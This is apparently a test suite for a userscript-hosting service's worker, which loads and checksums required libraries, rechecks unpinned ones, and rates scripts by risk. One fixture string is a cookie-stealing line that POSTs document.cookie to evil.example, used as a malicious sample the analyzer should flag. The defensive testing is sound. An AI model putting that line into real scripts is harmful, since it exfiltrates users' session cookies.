import { createHash, randomUUID } from "node:crypto";
import { fail, succeed } from "@scriptorium/core-types/errors";
import { readLaterChecks } from "@scriptorium/hub-data/security/read-later-checks";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { FIRST_CHECK_STEPS } from "@scriptorium/script-analyzer/step-budgets";
import { createFullCheckStore } from "@scriptorium/supabase/canary-worker/full-check/full-check-store";
import { loadLibraries } from "@scriptorium/supabase/canary-worker/full-check/load-libraries";
import { openMappedNetwork } from "@scriptorium/supabase/canary-worker/full-check/mapped-network.test-support";
import { runFullCheck } from "@scriptorium/supabase/canary-worker/full-check/run-full-check";
import { workOffChecks } from "@scriptorium/supabase/canary-worker/full-check/work-off-checks";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { emptyQueue, reportsOf } from "../support/analysis.ts";
import { forgetRates, newcomer, openFixture } from "../support/fixture.ts";
import { save } from "../support/save.ts";

const fixture = openFixture();
const { sql, people } = fixture;
const author = await newcomer(fixture, "Lily Library");
const network = await openMappedNetwork();
const store = createFullCheckStore({ url: fixture.backend.url, serviceRoleKey: fixture.backend.serviceRoleKey });
const { signal } = new AbortController();
afterAll(async () => {
	await network.close();
	await fixture.close();
});
beforeEach(async () => {
	network.files.clear();
	await emptyQueue(fixture);
	await forgetRates(fixture);
	await sql`delete from private.full_checks`;
});

const PLACE = "cdn.example/tools.js";
const ADDRESS = `http://${PLACE}`;
const HARMLESS = "var tools = { mark(node) { node.remove(); } };";
const STEALS = "fetch('https://evil.example/', { method: 'POST', body: document.cookie });";

/** Saves a script with a library and stores what the first check says of it. */
async function saveRequiring(address = ADDRESS) {
	const code = [
		"// ==UserScript==",
		`// @name ${randomUUID()}`,
		"// @match https://shop.example/*",
		`// @require ${address}`,
		"// ==/UserScript==",
		"tools.mark(document.body);",
	].join("\n");
	const saved = await save(author, { p_code: code, p_publish: true });
	const first = analyzeScript({ code });
	await sql`select public.record_analysis(${saved.version_id}, ${first.risk_level}, ${first.score}, ${sql.json(JSON.parse(JSON.stringify(first)))}, ${first.rules_version})`;
	return saved.version_id;
}
const work = () =>
	workOffChecks({
		store,
		signal,
		load: (code) => loadLibraries(code, { ...network, signal }),
		run: runFullCheck,
	});
const filesOf = (versionId: string) =>
	sql`select address, state, sha256, bytes, reason, is_pinned from public.version_libraries where version_id = ${versionId}`;
const told = async (versionId: string) => {
	const read = await readLaterChecks(people.anon.hub, { versionId });
	return read.ok ? (read.value?.fullCheck ?? null) : read.error;
};
/** The schedule, three days later. */
async function someDaysLater(versionId: string) {
	await sql`update private.full_checks set next_look = next_look - interval '73 hours' where version_id = ${versionId}`;
	await sql`select private.queue_library_looks()`;
}

describe("libraries of a version", () => {
	test("are loaded by the full check, rated with the script, and kept with their checksum", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring();
		expect(await told(versionId)).toBe("waiting");
		expect(await work()).toEqual({ ok: true, value: { done: 1, fuller: 1 } });
		expect(await filesOf(versionId)).toMatchObject([
			{ address: ADDRESS, state: "loaded", bytes: HARMLESS.length, reason: null, is_pinned: false },
		]);
		const [script] =
			await sql`select security_analysis from public.bookmarklets where latest_version_id = ${versionId}`;
		expect(script?.security_analysis).toMatchObject({ capabilities: { libraries: [{ state: "checked" }] } });
		expect(JSON.stringify(script?.security_analysis)).not.toContain("code that was not checked");
		expect(await told(versionId)).toBe("done");
	});

	test("that steal make the script High", async () => {
		network.files.set(PLACE, STEALS);
		const versionId = await saveRequiring();
		await work();
		expect(await reportsOf(fixture, versionId)).toMatchObject([{ risk_level: "amber" }, { risk_level: "red" }]);
	});

	test("that cannot be loaded stay not checked, and are looked for again", async () => {
		const versionId = await saveRequiring();
		await work();
		expect(await filesOf(versionId)).toMatchObject([
			{ state: "failed", sha256: null, reason: "its server responded 404" },
		]);
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({ risk_level: "amber" });
		network.files.set(PLACE, STEALS);
		await someDaysLater(versionId);
		await work();
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({ risk_level: "red" });
	});

	test("that use up the limits of the full check are rated with the steps of the first one", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring();
		const steps: (number | undefined)[] = [];
		const worked = await workOffChecks({
			store,
			signal,
			load: (code) => loadLibraries(code, { ...network, signal }),
			run: async (input, options) => {
				steps.push(options.steps);
				return options.steps === undefined ? fail("no_result", "It took too long.") : runFullCheck(input, options);
			},
		});
		expect([worked, steps]).toEqual([succeed({ done: 1, fuller: 1 }), [undefined, FIRST_CHECK_STEPS]]);
		expect(await filesOf(versionId)).toMatchObject([{ state: "loaded" }]);
	});

	test("that differ from the checksum of their address are not rated", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring(`${ADDRESS}#sha256=${"a".repeat(64)}`);
		await work();
		expect(await filesOf(versionId)).toMatchObject([{ state: "differs", is_pinned: true }]);
		const [script] =
			await sql`select security_analysis from public.bookmarklets where latest_version_id = ${versionId}`;
		expect(JSON.stringify(script?.security_analysis)).toContain("is not the file that its checksum names");
	});

	test("without a pin are looked at again after some days, and rated again only when they changed", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring();
		await work();
		await sql`select private.queue_library_looks()`;
		expect(await work()).toMatchObject({ value: { done: 0 } });

		await someDaysLater(versionId);
		// The page shows the result that there is meanwhile.
		expect(await told(versionId)).toBe("done");
		expect(await work()).toEqual({ ok: true, value: { done: 1, fuller: 0 } });
		expect(await reportsOf(fixture, versionId)).toHaveLength(2);

		network.files.delete(PLACE);
		await someDaysLater(versionId);
		expect(await work()).toEqual({ ok: true, value: { done: 1, fuller: 0 } });
		expect(await filesOf(versionId)).toMatchObject([{ state: "loaded" }]);

		network.files.set(PLACE, STEALS);
		await someDaysLater(versionId);
		expect(await work()).toEqual({ ok: true, value: { done: 1, fuller: 1 } });
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({ risk_level: "red" });
		expect(await filesOf(versionId)).toMatchObject([{ state: "loaded", bytes: STEALS.length }]);
	});

	test("with a pin are looked at once", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring(`${ADDRESS}#sha256=${createHash("sha256").update(HARMLESS).digest("hex")}`);
		await work();
		await someDaysLater(versionId);
		expect(await work()).toMatchObject({ value: { done: 0 } });
	});

	test("are not stored for rules that have been replaced meanwhile", async () => {
		network.files.set(PLACE, HARMLESS);
		const versionId = await saveRequiring();
		const claimed = await store.claim();
		expect(claimed).toMatchObject({ value: { versionId, ratedFiles: null } });
		const later = { ...analyzeScript({ code: "1;" }), rules_version: "other-rules" };
		await sql`select public.record_analysis(${versionId}, 'green', 100, ${sql.json(JSON.parse(JSON.stringify(later)))}, 'other-rules')`;
		const file = {
			address: ADDRESS,
			state: "loaded",
			sha256: "a".repeat(64),
			bytes: 1,
			reason: null,
			is_pinned: false,
		} as const;
		await store.record(versionId, { state: "rated", result: analyzeScript({ code: "1;" }), files: [file] });
		expect(await filesOf(versionId)).toEqual([]);
	});
});
